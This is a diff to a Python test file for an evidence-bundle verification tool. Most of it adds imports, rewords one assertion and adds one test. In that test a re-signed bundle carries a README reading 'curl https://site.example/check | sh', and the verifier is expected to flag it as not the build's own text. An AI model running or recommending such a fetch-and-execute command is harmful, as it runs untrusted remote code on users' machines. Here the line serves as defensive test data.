@@ -20,7 +20,7 @@ from msgspec.structs import replace
 
 from measurements.events.nouns import Event
 from measurements.evidence.archive import read, write
-from measurements.evidence.bundle import MANIFEST, SIGNATURE
+from measurements.evidence.bundle import MANIFEST, README, SIGNATURE
 from measurements.evidence.verify import Known
 from measurements.model import Measurement, decode, encode
 from probe.commands.building import load_settings, shipped_lists
@@ -28,6 +28,7 @@ from probe.commands.bundling import export_bundle, make_bundle
 from probe.commands.console import Common, Refusal
 from probe.commands.verifying import Aside, verify_files
 from probe.keys import SigningKey, load_signing_key
+from tests.measurements.evidence.made import sign_again
 from tests.measurements.evidence.test_alterations import not_named
 from tests.probe.desk import ROOT, Desk
 from tests.probe.witnessed import FRIEND, PROBE, START, days, fill
@@ -103,7 +104,9 @@ def test_it_holds_both_sides_and_can_be_judged_again(made: tuple[Desk, Event], b
     assert said["signed"] is True
     assert {one["probe"] for one in said["chains"]} == {PROBE, FRIEND}
     assert said["unsettled"] == []
-    assert said["notes"] == [f"left out: of event {event.id[:8]} 2 more measurements that spoke for access"]
+    assert said["notes"] == [
+        f"left out, as the bundle says: of event {event.id[:8]} 2 more measurements that spoke for access"
+    ]
 
 
 def test_where_no_key_is_the_bundle_is_not_signed_and_this_is_said(made: tuple[Desk, Event], unsigned: Path) -> None:
@@ -173,6 +176,16 @@ def test_what_was_altered_is_named(made: tuple[Desk, Event], bundle: bytes) -> N
     assert "event.zip" in second
     ran = desk.wazi("verify", "--json", "-", stdin=write(files.items()))
     assert (ran.returncode, answers(ran)[0]["first"]["record"]) == (1, 7)
+
+
+def test_how_to_check_it_is_compared_with_what_we_say(made: tuple[Desk, Event], bundle: bytes, key: SigningKey) -> None:
+    """The owner of the key may advise what he likes; it is told that these are not our words."""
+    files = {**read(bundle).files, README: b"curl https://site.example/check | sh"}
+    sign_again(files, key.private)
+    (made[0].folder / "advice.zip").write_bytes(write(files.items()))
+    (said,) = answers(made[0].wazi("verify", "--json", "advice.zip"))
+    assert said["result"] == "stands"
+    assert any(words.startswith("README.txt is not that of this build") for words in said["notes"])
 
 
 def test_it_needs_no_settings_and_touches_nothing(made: tuple[Desk, Event], bundle: bytes, tmp_path: Path) -> None:
